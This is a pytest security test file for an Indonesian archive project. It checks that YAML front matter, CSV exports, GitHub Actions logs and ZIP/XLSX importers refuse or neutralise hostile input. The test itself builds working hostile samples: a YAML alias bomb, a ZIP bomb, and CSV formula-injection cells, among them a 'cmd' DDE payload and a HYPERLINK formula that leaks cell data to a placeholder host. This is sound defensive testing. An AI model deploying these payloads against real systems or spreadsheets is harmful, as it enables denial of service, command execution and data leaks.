"""Hostile staff input gets a message, fast: YAML anchors, aliases and duplicate keys in front
matter, formulas in the open-data CSV, workflow commands in text printed for GitHub Actions.
Every hostile input is made by the test itself."""

from __future__ import annotations

import csv
import datetime
import io
import re
import resource
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from conftest import REPO
from harmoni_arsip.commands import periksa
from harmoni_arsip.entries import read_entries
from harmoni_arsip.entries.frontmatter import FrontMatterError, parse
from harmoni_arsip.problems import HarmoniError, Problems
from harmoni_arsip.settings import load_settings
from harmoni_arsip.stats.bounds import MAX_UNCOMPRESSED
from harmoni_arsip.stats.measurements import parse_measurements
from harmoni_arsip.stats.platforms import read_export
from harmoni_arsip.stats.snapshots import merge
from test_platforms import TIKTOK, TIKTOK_ROWS, csv_bytes, tiktok_xlsx

SETTINGS = load_settings(yaml.safe_load((REPO / "mkdocs.yml").read_text("utf-8"))["extra"])


def alias_bomb() -> str:
    """Nine levels of nine aliases (the 452-byte bomb of issue 18): 9**9 strings once built."""
    lines = ["---", "a: &a [x, x, x, x, x, x, x, x, x]"]
    for level, name in enumerate("bcdefghij"):
        previous = "abcdefghij"[level]
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    lines += ["id: *j", "title: Bom", "---", "", "Narasi."]
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_in_milliseconds():
    text = alias_bomb()
    assert len(text.encode()) < 600
    started = time.perf_counter()
    with pytest.raises(FrontMatterError) as caught:
        parse(text)
    elapsed = time.perf_counter() - started
    assert elapsed < 0.25, f"{elapsed * 1000:.0f} ms"  # main: 25 to 100 s and gigabytes
    assert caught.value.line == 2
    assert "anchor YAML `&a` tidak diizinkan" in str(caught.value)


@pytest.mark.parametrize(
    ("yaml_text", "line", "words"),
    [
        ("title: Uji\nid: *x\n", 3, "alias YAML `*x` tidak diizinkan"),
        ("title: &judul Uji\nid: 2024-001\n", 2, "anchor YAML `&judul`"),
        ("title: Uji\ndesa: &d [A, B]\nkecamatan: *d\n", 3, "anchor YAML `&d`"),
        ("base: &b {a: 1}\nx:\n  <<: *b\n", 2, "anchor YAML `&b`"),
    ],
)
def test_anchors_and_aliases_are_refused_with_their_line(yaml_text, line, words):
    with pytest.raises(FrontMatterError) as caught:
        parse(f"---\n{yaml_text}---\nisi\n")
    assert caught.value.line == line
    assert words in str(caught.value)


@pytest.mark.parametrize(
    ("yaml_text", "line", "key", "first"),
    [
        ("id: 2024-001\ntitle: A\ntitle: B\n", 4, "title", 3),
        ("id: 2024-001\nketerangan:\n  - berkas: a.jpg\n    berkas: b.jpg\n", 5, "berkas", 4),
        ("id: 2024-001\nmedia_sosial: {facebook: x, facebook: y}\n", 3, "facebook", 3),
    ],
)
def test_duplicate_keys_are_refused_at_any_depth(yaml_text, line, key, first):
    with pytest.raises(FrontMatterError) as caught:
        parse(f"---\n{yaml_text}---\nisi\n")
    assert caught.value.line == line
    assert f"kunci `{key}` ditulis dua kali (juga di baris {first})" in str(caught.value)


def test_the_build_names_the_file_and_line_of_an_alias_bomb(tmp_path: Path):
    folder = tmp_path / "kegiatan" / "2024" / "bom"
    folder.mkdir(parents=True)
    (folder / "index.md").write_text(alias_bomb(), encoding="utf-8")
    problems = Problems()
    started = time.perf_counter()
    archive = read_entries(tmp_path / "kegiatan", tmp_path, SETTINGS, problems)
    assert time.perf_counter() - started < 1
    assert archive.entries == []
    assert [str(p).split(": ")[0] for p in problems.items] == [
        "kegiatan/2024/bom/index.md, baris 2"
    ]


@pytest.mark.parametrize(
    ("yaml_text", "line"),
    [
        ("title: Uji\ndesa: [A, B\nid: 2024-001\n", 4),  # nothing to scan for: loaded at once
        ("title: Uji & coba\ndesa: [A, B\nid: 2024-001\n", 4),  # an `&`: scanned first
        ("title: Uji\na: {b\n", 4),
        ("title: Uji\n--- x\ndesa: [A\n", 4),  # a second document: scanned first
    ],
)
def test_broken_yaml_is_reported_at_its_line_with_or_without_the_anchor_scan(yaml_text, line):
    with pytest.raises(FrontMatterError) as caught:
        parse(f"---\n{yaml_text}---\nisi\n")
    assert caught.value.line == line


def test_an_ampersand_in_a_value_is_not_an_anchor():
    front = parse("---\nid: 2024-001\ntitle: Rapat & diskusi *penting*\n---\n")
    assert front.data["title"] == "Rapat & diskusi *penting*"


def test_plain_front_matter_still_reads():
    front = parse("---\nid: 2024-001\ntitle: A\ndesa: [X, Y]\nketerangan:\n  - berkas: a\n---\n")
    assert front.data["desa"] == ["X", "Y"]
    assert front.key_lines["keterangan"] == 5


# -- formulas in the open-data CSV ----------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
     "-2+3", "\tTab", "\r=CR"],
)  # fmt: skip
def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(value):
    from harmoni_arsip.exports.opendata import csv_bytes
    from harmoni_arsip.exports.records import FIELD_NAMES

    record = dict.fromkeys(FIELD_NAMES, "")
    record.update(id="2024-001", judul=value, desa=[value, "Baturusa"])
    data = csv_bytes([record]).decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(data, newline="")))
    assert row["judul"] == "'" + value
    assert row["desa"] == "'" + value + "; Baturusa"
    assert row["id"] == "2024-001"


def test_plain_csv_cells_are_unchanged():
    from harmoni_arsip.exports.opendata import csv_bytes
    from harmoni_arsip.exports.records import FIELD_NAMES

    record = dict.fromkeys(FIELD_NAMES, "")
    record.update(id="2024-001", judul="Rapat 1=1 dan a@b", jumlah_foto=3)
    (row,) = list(csv.DictReader(io.StringIO(csv_bytes([record]).decode("utf-8-sig"))))
    assert row["judul"] == "Rapat 1=1 dan a@b"
    assert row["jumlah_foto"] == "3"


# -- workflow commands in staff text ------------------------------------------------------------

INJECTIONS = ["x\n::error::palsu", "x\r::add-mask::rahasia", "x\n::stop-commands::t0k3n",
              "x\u2028::warning::a", "50%25\n::notice::b"]  # fmt: skip


@pytest.mark.parametrize("value", INJECTIONS)
def test_staff_text_never_starts_a_workflow_command_line(tmp_path: Path, value):
    folder = tmp_path / "kegiatan" / "2024" / "uji"
    folder.mkdir(parents=True)
    front = {"id": "2024-001", "title": "Uji", "date": "2024-07-01", "kategori": value}
    text = "---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n\nNarasi.\n"
    (folder / "index.md").write_text(text, encoding="utf-8")
    problems = Problems()
    read_entries(tmp_path / "kegiatan", tmp_path, SETTINGS, problems)
    assert problems.items, "the unknown kategori is reported"
    printed = "\n".join(str(p) for p in problems.items)
    printed += "\n" + "\n".join(periksa.github_annotations(problems, "error"))
    for line in re.split(r"\r\n|\r|\n", printed):  # how the Actions runner reads a log
        assert not line.lstrip().startswith("::") or line.startswith("::error file=kegiatan/")


@pytest.mark.expect_warnings("kategori `x⏎::add-mask::rahasia` tidak dikenal")
def test_the_build_log_keeps_staff_text_on_one_line(caplog):
    problems = Problems()
    problems.add("kegiatan/a/index.md", "kategori `x\n::add-mask::rahasia` tidak dikenal.", 3)
    problems.report()
    assert len(caplog.records) == 1
    assert caplog.records[0].getMessage().splitlines() == [
        "kegiatan/a/index.md, baris 3: kategori `x⏎::add-mask::rahasia` tidak dikenal."
    ]


# -- importers: bounded in size, nesting, dimensions, cells and digits ------------------------


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb(megabytes: int) -> bytes:
    """A few MB of ZIP whose one CSV member expands to `megabytes` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("Content.csv", "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(megabytes):
                member.write(chunk)
    return out.getvalue()


def tiktok_csv(link: str, views: str = "10") -> bytes:
    return csv_bytes(TIKTOK, [{**TIKTOK_ROWS[0], "Video link": link, "Total views": views}])


def problems_of(name: str, data: bytes) -> str:
    read = read_export(name, data)
    return "\n".join(str(p) for p in read.problems)


def test_a_zip_bomb_is_refused_from_its_directory():
    bomb = zip_bomb(MAX_UNCOMPRESSED // 2**20 + 56)
    assert len(bomb) < MAX_UNCOMPRESSED // 50
    started = time.perf_counter()
    message = problems_of("tiktok.zip", bomb)
    assert time.perf_counter() - started < 1
    assert "tiktok.zip: isinya mengembang menjadi 256 MB (paling banyak 200 MB)" in message


def test_a_zip_inside_a_zip_is_not_opened():
    inner = zip_of({"Content.csv": tiktok_csv(TIKTOK_ROWS[0]["Video link"])})
    outer = zip_of({"Content.csv": inner})
    assert "tiktok.zip:Content.csv: ZIP di dalam ZIP tidak dibaca" in problems_of(
        "tiktok.zip", outer
    )


def tampered_xlsx(change) -> bytes:
    """A real TikTok-like workbook with its first sheet's XML passed through `change`."""
    source = zipfile.ZipFile(io.BytesIO(tiktok_xlsx(TIKTOK_ROWS)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data)
            archive.writestr(info.filename, data)
    return out.getvalue()


def huge_dimension(xml: bytes) -> bytes:
    """Declare A1:XFD1048576 and put one cell in the last row and column."""
    xml, count = re.subn(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml)
    assert count == 1
    last = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return xml.replace(b"</sheetData>", last + b"</sheetData>")


def with_dtd(xml: bytes) -> bytes:
    head, _, rest = xml.partition(b"?>")
    return head + b'?><!DOCTYPE worksheet [<!ENTITY e "x">]>' + rest


def run_bounded(code: str, seconds: int = 60, memory: int = 1 << 30):
    """`code` in a child Python with an address-space limit and a time limit."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    return subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=seconds,
        preexec_fn=limit, cwd=Path(__file__).parent,
    )  # fmt: skip


def test_an_xlsx_declaring_a_million_rows_is_refused_quickly(tmp_path: Path):
    data = tampered_xlsx(huge_dimension)
    assert len(data) < 10_000
    path = tmp_path / "tiktok.xlsx"
    path.write_bytes(data)
    code = (
        "import sys, time; sys.path.insert(0, '../hooks')\n"
        "from harmoni_arsip.stats.platforms import read_export\n"
        f"data = open({str(path)!r}, 'rb').read(); t = time.process_time()\n"
        "read = read_export('tiktok.xlsx', data)\n"
        "print(time.process_time() - t); print(*read.problems, sep='\\n')\n"
    )
    result = run_bounded(code, seconds=30)
    assert result.returncode == 0, result.stderr
    seconds, message = result.stdout.split("\n", 1)
    assert float(seconds) < 2
    assert "tiktok.xlsx: lembar kerja menjangkau 1.048.576 baris × 16.384 kolom" in message


def test_an_xlsx_with_a_dtd_is_refused_cleanly():
    message = problems_of("tiktok.xlsx", tampered_xlsx(with_dtd))
    assert "tiktok.xlsx: berkas Excel ini memuat DTD (`<!DOCTYPE`)" in message


def test_a_csv_field_over_128_kib_is_a_message():
    data = tiktok_csv(TIKTOK_ROWS[0]["Video link"]) + b'"' + b"a" * (200 * 1024) + b'",1\n'
    message = problems_of("Content.csv", data)
    assert "Content.csv: ada sel yang lebih panjang dari 128 KiB" in message


def test_a_26_digit_tiktok_id_and_a_5000_digit_count_are_messages():
    long_id = "https://www.tiktok.com/@contoh/video/" + "7" * 26
    message = problems_of("a.csv", tiktok_csv(long_id))
    assert "a.csv, baris 2, kolom `Permalink`" in message and "26 digit" in message
    link = TIKTOK_ROWS[0]["Video link"]
    message = problems_of("b.csv", tiktok_csv(link, "9" * 5000))
    assert "b.csv, baris 2, kolom `Views`: berisi bilangan 5.000 digit" in message
    assert len(message) < 400


@pytest.mark.parametrize(
    ("cell", "words"),
    [("9" * 5000, "bilangan 5000 digit"), ("1" * 16, "bilangan 16 digit")],
)
def test_the_reach_csv_bounds_its_numbers(cell, words):
    problems = Problems()
    text = f"url,tanggal,jangkauan\nhttps://www.facebook.com/x/posts/1,2025-01-02,{cell}\n"
    assert parse_measurements(text, "kegiatan/jangkauan.csv", problems) == []
    (problem,) = problems.items
    assert problem.line == 2 and words in problem.message


def test_the_reach_csv_with_a_huge_cell_is_a_message_for_the_build_and_the_import():
    text = "url,tanggal,jangkauan\n" + '"' + "x" * (200 * 1024) + '",2025-01-02,5\n'
    problems = Problems()
    assert parse_measurements(text, "kegiatan/jangkauan.csv", problems) == []
    assert "ada sel yang lebih panjang dari 128 KiB" in str(problems.items[0])
    with pytest.raises(HarmoniError, match="data jangkauan tidak terbaca di baris 2"):
        merge(text, [], datetime.date(2025, 1, 3), [])
